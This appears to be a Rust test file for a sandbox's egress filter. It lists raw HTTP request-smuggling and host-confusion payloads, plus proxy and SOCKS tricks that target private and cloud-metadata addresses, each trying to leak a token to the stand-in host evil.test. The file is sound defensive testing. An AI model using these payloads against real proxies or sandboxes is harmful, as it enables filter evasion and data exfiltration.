//! Plain HTTP: each request of a connection is for the granted host, and there is no request that only one side sees.
//! The server takes everything at its word: whatever ends with an empty line is a request to it.

use crate::attempt::attempt;
use crate::row::Row;

/// Raw requests to `raw.test:8080`. What holds the token must not reach the server.
const REQUESTS: &[(&str, &str, &str)] = &[
    ("host-other", "a request for another host", r"b'GET /{token} HTTP/1.1\r\nHost: evil.test\r\n\r\n'"),
    (
        "host-other-upper-case",
        "a request for another host in capitals",
        r"b'GET /{token} HTTP/1.1\r\nHOST: EVIL.TEST\r\n\r\n'",
    ),
    (
        "host-second",
        "a second request, for another host, on a kept connection",
        r"b'GET / HTTP/1.1\r\nHost: raw.test:8080\r\n\r\nGET /{token} HTTP/1.1\r\nHost: evil.test\r\n\r\n'",
    ),
    (
        "host-twice",
        "a request with two hosts",
        r"b'GET /{token} HTTP/1.1\r\nHost: raw.test:8080\r\nHost: evil.test\r\n\r\n'",
    ),
    (
        "host-twice-reversed",
        "a request with two hosts, the other one first",
        r"b'GET /{token} HTTP/1.1\r\nHost: evil.test\r\nHost: raw.test:8080\r\n\r\n'",
    ),
    ("host-missing", "a request without a host", r"b'GET /{token} HTTP/1.1\r\nX: y\r\n\r\n'"),
    (
        "host-list",
        "a request with a list of hosts",
        r"b'GET /{token} HTTP/1.1\r\nHost: raw.test:8080, evil.test\r\n\r\n'",
    ),
    (
        "host-user",
        "a request with the granted host as the user of another",
        r"b'GET /{token} HTTP/1.1\r\nHost: raw.test:8080@evil.test\r\n\r\n'",
    ),
    (
        "host-port",
        "a request for another port of the granted host",
        r"b'GET /{token} HTTP/1.1\r\nHost: raw.test:22\r\n\r\n'",
    ),
    (
        "absolute-form",
        "an absolute address of another host",
        r"b'GET http://evil.test/{token} HTTP/1.1\r\nHost: raw.test:8080\r\n\r\n'",
    ),
    (
        "absolute-form-reversed",
        "an absolute address of the granted host, with another host",
        r"b'GET http://raw.test:8080/{token} HTTP/1.1\r\nHost: evil.test\r\n\r\n'",
    ),
    (
        "connect-within",
        "a CONNECT to another host on a connection to a granted one",
        r"b'CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\nX: {token}\r\n\r\n'",
    ),
    (
        "folded",
        "a host on a folded line",
        r"b'GET /{token} HTTP/1.1\r\nX: y\r\n Host: evil.test\r\nHost:\r\n evil.test\r\n\r\n'",
    ),
    (
        "space-before-colon",
        "a header with a space before its colon",
        r"b'GET /{token} HTTP/1.1\r\nHost : evil.test\r\nHost: raw.test:8080\r\n\r\n'",
    ),
    (
        "length-and-chunked",
        "a body with two lengths, and a request hidden in it",
        r"b'POST / HTTP/1.1\r\nHost: raw.test:8080\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /{token} HTTP/1.1\r\nHost: evil.test\r\n\r\n'",
    ),
    (
        "two-lengths",
        "a body with two different lengths",
        r"b'POST / HTTP/1.1\r\nHost: raw.test:8080\r\nContent-Length: 0\r\nContent-Length: 60\r\n\r\nGET /{token} HTTP/1.1\r\nHost: evil.test\r\n\r\n'",
    ),
    (
        "length-with-sign",
        "a length that only some can read",
        r"b'POST / HTTP/1.1\r\nHost: raw.test:8080\r\nContent-Length: +0\r\n\r\nGET /{token} HTTP/1.1\r\nHost: evil.test\r\n\r\n'",
    ),
    (
        "odd-coding",
        "a transfer coding that only some know",
        r"b'POST / HTTP/1.1\r\nHost: raw.test:8080\r\nTransfer-Encoding: xchunked\r\n\r\nGET /{token} HTTP/1.1\r\nHost: evil.test\r\n\r\n'",
    ),
    (
        "chunked-old-version",
        "chunks in a version that has none",
        r"b'POST / HTTP/1.0\r\nHost: raw.test:8080\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /{token} HTTP/1.1\r\nHost: evil.test\r\n\r\n'",
    ),
    (
        "bad-chunk",
        "a chunk with a size that wraps round",
        r"b'POST / HTTP/1.1\r\nHost: raw.test:8080\r\nTransfer-Encoding: chunked\r\n\r\n10000000000000000\r\n\r\nGET /{token} HTTP/1.1\r\nHost: evil.test\r\n\r\n'",
    ),
    (
        "bare-newlines",
        "a second request behind bare newlines",
        r"b'GET / HTTP/1.1\nHost: raw.test:8080\n\nGET /{token} HTTP/1.1\r\nHost: evil.test\r\n\r\n'",
    ),
    (
        "nul-in-header",
        "a host with a NUL",
        r"b'GET /{token} HTTP/1.1\r\nHost: evil.test\x00.raw.test:8080\r\n\r\n'",
    ),
    (
        "return-in-header",
        "a second header behind a bare return",
        r"b'GET /{token} HTTP/1.1\r\nHost: raw.test:8080\rHost: evil.test\r\n\r\n'",
    ),
    (
        "leading-newlines",
        "a request for another host behind empty lines",
        r"b'\r\n\r\nGET /{token} HTTP/1.1\r\nHost: evil.test\r\n\r\n'",
    ),
    (
        "h2c-upgrade",
        "an upgrade to HTTP/2, after which nobody looks",
        r"b'GET /a HTTP/1.1\r\nHost: raw.test:8080\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\r\nPRI * HTTP/2.0\r\n\r\nSM {token}\r\n\r\n'",
    ),
    (
        "slow-method",
        "a request for another host whose first bytes look like nothing",
        r"b'QWERTYUIOP /{token} HTTP/1.1\r\nHost: evil.test\r\n\r\n'",
    ),
    ("09-lower-case", "an old request in small letters", r"b'get http://evil.test/{token}\r\n\r\n'"),
    ("09-tab", "an old request with a tab", r"b'GET\thttp://evil.test/{token}\r\n\r\n'"),
    ("09-spaces", "an old request with more spaces", r"b'\r\n GET   HTTP://evil.test/{token} \r\n\r\n'"),
    ("09-slashes", "an old request without a scheme", r"b'GET //evil.test/{token}\r\n\r\n'"),
    ("09-one-slash", "an old request with half an address", r"b'GET http:evil.test/{token}\r\n\r\n'"),
    ("09-host", "an old request with a newer one's host", r"b'GET /{token}\r\nHost: evil.test\r\n\r\n'"),
    (
        "09-star",
        "an old request for the whole server",
        r"b'OPTIONS *\r\nHost: evil.test\r\nX: {token}\r\n\r\n'",
    ),
    ("09-connect", "a CONNECT without a version", r"b'CONNECT evil.test:443\r\nX: {token}\r\n\r\n'"),
    (
        "09-other-version",
        "a request in the version of another protocol",
        r"b'GET rtsp://evil.test/{token} RTSP/1.0\r\nHost: evil.test\r\n\r\n'",
    ),
    (
        "latin-blanks",
        "a request for another host with the blanks of Latin-1, as Python's server takes it",
        r"b'\xa0GET\x85/{token}\xa0HTTP/1.1\r\nHost: evil.test\r\n\r\n'",
    ),
    (
        "proxy-line",
        "a line of the PROXY protocol before a request for another host",
        r"b'PROXY TCP4 192.0.2.1 192.0.2.10 1000 80\r\nGET /{token} HTTP/1.1\r\nHost: evil.test\r\n\r\n'",
    ),
];

pub(crate) fn rows() -> Vec<Row> {
    let mut rows: Vec<Row> = REQUESTS
        .iter()
        .map(|(name, what, bytes)| {
            attempt(format!("http-{name}"), format!("sends {what}"))
                .grant(["raw.test:8080"])
                .python(&format!(
                    "got = say('raw.test', 8080, {bytes}, b'{{token}}', 3)\n\
                     taken = re.findall(b'seen: (.*)', got)\n\
                     if any(b'{{token}}' in line or b'evil' in line for line in taken): escaped(taken)\n\
                     held(repr(got[:300]))"
                ))
                .denied("raw.test")
                .unheard()
                .twin_python(&format!(
                    "if b'seen:' in say('raw.test', 8080, {bytes}, b'seen:'): escaped('the server took it')"
                ))
        })
        .collect();
    rows.extend(http2());
    rows.extend(without_version());
    rows.push(behind_a_large_answer());
    rows.extend(responses());
    rows.extend(proxy());
    rows
}

fn http2() -> Vec<Row> {
    vec![
        attempt("h2c-authority", "asks for another host over HTTP/2 in clear")
            .grant(["good.test:8082"])
            .shell(
                "curl -sf --max-time 5 --http2-prior-knowledge --connect-to evil.test:8082:good.test:8082 \
                 http://evil.test:8082/{token} | grep 'page of evil.test'",
            )
            .denied("good.test")
            .unheard()
            .row(),
        attempt("plain-connect-to", "asks a granted address for another host")
            .grant(["good.test:80"])
            .shell("curl -sf --max-time 5 -H 'Host: evil.test' http://good.test/{token} | grep 'page of evil.test'")
            .denied("good.test")
            .unheard()
            .row(),
    ]
}

/// HTTP/0.9: a line without a version, which nginx answers. One with an address in it names its host there.
fn without_version() -> Vec<Row> {
    const REQUEST: &str = r"b'GET http://evil.test/{token}\r\n'";
    const JUDGE: &str = "\nif b'page of evil.test' in got: escaped('the page came')\nheld(repr(got[:300]))";
    vec![
        attempt("http09-absolute", "asks for another host's page in a line without a version")
            .grant(["good.test:80"])
            .python(&format!("got = say('good.test', 80, {REQUEST}){JUDGE}"))
            .denied("good.test")
            .unheard()
            .row(),
        attempt("http09-absolute-pieces", "the same, byte by byte")
            .grant(["good.test:80"])
            .python(&format!(
                "stream = dial('good.test', 80)\n\
                 stream.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)\n\
                 for byte in {REQUEST}:\n    stream.sendall(bytes([byte])); time.sleep(0.001)\n\
                 got = read(stream){JUDGE}"
            ))
            .denied("good.test")
            .unheard()
            .row(),
        attempt("http09-tunnel", "the same within a tunnel to a granted host")
            .grant(["good.test:80"])
            .python(&format!(
                "stream, _ = connect_through('{{http_proxy}}', 'good.test:80')\n\
                 stream.sendall({REQUEST})\ngot = read(stream){JUDGE}"
            ))
            .denied("good.test")
            .unheard()
            .row(),
        attempt("http09-socks", "the same within a SOCKS tunnel to a granted host")
            .grant(["good.test:80"])
            .python(&format!(
                "stream = socks_through('{{socks_proxy}}', 'good.test', 80)\n\
                 stream.sendall({REQUEST})\ngot = read(stream){JUDGE}"
            ))
            .denied("good.test")
            .unheard()
            .row(),
        proxy_protocol("proxy-protocol", r"b'PROXY TCP4 192.0.2.1 192.0.2.10 1000 8083\r\n'"),
        proxy_protocol(
            "proxy-protocol-binary",
            r"b'\r\n\r\n\x00\r\nQUIT\n\x21\x11\x00\x0c' + bytes(8) + b'\x10\x00\x20\x00'",
        ),
    ]
}

/// A server behind a balancer believes what comes first to be the balancer's word on who speaks, and reads on.
fn proxy_protocol(name: &str, header: &str) -> Row {
    attempt(name, "puts a header of the PROXY protocol before a request for another host")
        .grant(["good.test:8083"])
        .python(&format!(
            "got = say('good.test', 8083, {header} + b'GET /{{token}} HTTP/1.0\\r\\nHost: evil.test\\r\\n\\r\\n')\n\
             if b'page of evil.test' in got: escaped('the page came')\nheld(repr(got[:300]))"
        ))
        .denied("good.test")
        .unheard()
        .row()
}

/// Egress gives a connection away once the head of a large answer is through, and looks at no request behind it.
fn behind_a_large_answer() -> Row {
    attempt("http-behind-a-large-answer", "sends a request for another host behind one with a large answer")
        .grant(["good.test:80"])
        .python(
            "both = b'GET /big HTTP/1.1\\r\\nHost: good.test\\r\\n\\r\\nGET /{token} HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n'\n\
             got = say('good.test', 80, both, b'page of evil.test', 3)\n\
             if b'page of evil.test' in got: escaped('its page came')\n\
             held('%d MiB of it' % (got.count(b'x') >> 20))",
        )
        .shows("held: 8 MiB of it")
        .unheard()
        .row()
}

/// A server that is granted but hostile: nothing that it says makes two answers of one.
fn responses() -> Vec<Row> {
    let row = |name: &str, what: &str, answer: &[u8]| {
        let answer = answer.to_vec();
        attempt(format!("response-{name}"), what)
            .set_up(move |internet, _| {
                internet.recorder.script(answer.clone());
                Vec::new()
            })
            .grant(["raw.test:8081"])
            .python(
                "got = say('raw.test', 8081, b'GET / HTTP/1.1\\r\\nHost: raw.test:8081\\r\\n\\r\\n', None, 2)\n\
                 if b'smuggled' in got: escaped('the second answer came through')\n\
                 held(repr(got[:300]))",
            )
            .row()
    };
    vec![
        row(
            "splitting",
            "gets a second answer behind the first",
            b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nokHTTP/1.1 200 OK\r\nX: smuggled\r\nContent-Length: 0\r\n\r\n",
        ),
        row(
            "splitting-large",
            "gets a second answer behind one that is spliced",
            &[
                b"HTTP/1.1 200 OK\r\nContent-Length: 2097152\r\n\r\n",
                &[b'x'; 2 << 20][..],
                b"HTTP/1.1 200 OK\r\nX: smuggled\r\nContent-Length: 0\r\n\r\n",
            ]
            .concat(),
        ),
        row(
            "two-lengths",
            "gets an answer with two lengths",
            b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nContent-Length: 60\r\n\r\nokHTTP/1.1 200 smuggled\r\nContent-Length: 0\r\n\r\n",
        ),
        row(
            "bare-return",
            "gets a header that hides another behind a bare return",
            b"HTTP/1.1 200 OK\r\nX: a\rSet-Cookie: smuggled\r\nContent-Length: 2\r\n\r\nok",
        ),
        row(
            "nul",
            "gets a header with a NUL",
            b"HTTP/1.1 200 OK\r\nX: a\0smuggled\r\nContent-Length: 2\r\n\r\nok",
        ),
    ]
}

/// The same through the sandbox's own proxies.
fn proxy() -> Vec<Row> {
    let connect = |name: &str, target: &str| {
        attempt(format!("connect-{name}"), format!("asks the proxy for {target}"))
            .grant(["good.test", "*.good.test:4242"])
            .python(&format!("escaped(greeting_on(*connect_through('{{http_proxy}}', '{target}')))"))
            .said("was refused")
            .row()
    };
    let socks = |name: &str, target: &str| {
        attempt(format!("socks-{name}"), format!("asks the SOCKS proxy for {target}"))
            .grant(["good.test", "*.good.test:4242"])
            .python(&format!("escaped(greeting_on(socks_through('{{socks_proxy}}', {target}, 4242)))"))
            .said("was refused")
            .row()
    };
    let get = |name: &str, target: &str, what: &str| {
        attempt(format!("proxy-{name}"), what)
            .grant(["good.test:80"])
            .python(&format!(
                "got = say(*proxy('{{http_proxy}}'), b'GET {target} HTTP/1.1\\r\\nHost: good.test\\r\\nConnection: close\\r\\n\\r\\n')\n\
                 if b'page of' in got: escaped('the page came')\nheld(repr(got[:300]))"
            ))
            .said("was refused")
            .unheard()
            .row()
    };
    vec![
        connect("ungranted", "evil.test:4242"),
        connect("user", "x.good.test@evil.test:4242"),
        connect("path", "evil.test:4242/.good.test:4242"),
        connect("private", "10.1.2.3:4242"),
        connect("metadata", "169.254.169.254:4242"),
        connect("mapped", "[::ffff:10.1.2.3]:4242"),
        connect("other-port", "good.test:4242"),
        connect("private-name", "private-10.evil.test:4242"),
        socks("ungranted", "'evil.test'"),
        socks("nul", r"b'evil.test\x00.good.test'"),
        socks("address", "'192.0.2.66'"),
        socks("private-name", "'private-10.evil.test'"),
        socks("trailing-dot", "'evil.test.'"),
        get("get-other", "http://evil.test/{token}", "asks the proxy for another host's page"),
        get("get-user", "http://good.test@evil.test/{token}", "asks with the granted host as the user of another"),
        get("get-user-port", "http://good.test:80@evil.test/{token}", "asks with the granted host as user and password"),
        get("get-address", "http://192.0.2.66/{token}", "asks the proxy for an address"),
        attempt("proxy-second-request", "asks the proxy for another host on a kept connection")
            .grant(["good.test:80"])
            .python(
                "stream = dial(*proxy('{http_proxy}'))\n\
                 stream.sendall(b'GET http://good.test/ HTTP/1.1\\r\\nHost: good.test\\r\\n\\r\\n')\n\
                 first = read(stream, b'page of good.test')\n\
                 if b'page of good.test' not in first: held('the first did not come: %r' % first[:300])\n\
                 stream.sendall(b'GET http://evil.test/{token} HTTP/1.1\\r\\nHost: evil.test\\r\\nConnection: close\\r\\n\\r\\n')\n\
                 got = read(stream)\n\
                 if b'page of evil.test' in got: escaped('the page came')\nheld('only the first came, then %r' % got[:300])",
            )
            .shows("only the first came")
            .denied("evil.test")
            .unheard()
            .twin_python(
                "got = say('192.0.2.80', 8888, b'GET http://evil.test/ HTTP/1.1\\r\\nHost: evil.test\\r\\nConnection: close\\r\\n\\r\\n')\n\
                 if b'page of evil.test' in got: escaped('the page came')",
            ),
        attempt("tunnel-host", "asks for another host in clear within a tunnel to a granted one")
            .grant(["good.test:80"])
            .python(
                "stream, _ = connect_through('{http_proxy}', 'good.test:80')\n\
                 stream.sendall(b'GET /{token} HTTP/1.1\\r\\nHost: evil.test\\r\\nConnection: close\\r\\n\\r\\n')\n\
                 got = read(stream)\n\
                 if b'page of evil.test' in got: escaped('the page came')\nheld(repr(got[:300]))",
            )
            .denied("good.test")
            .unheard()
            .row(),
    ]
}
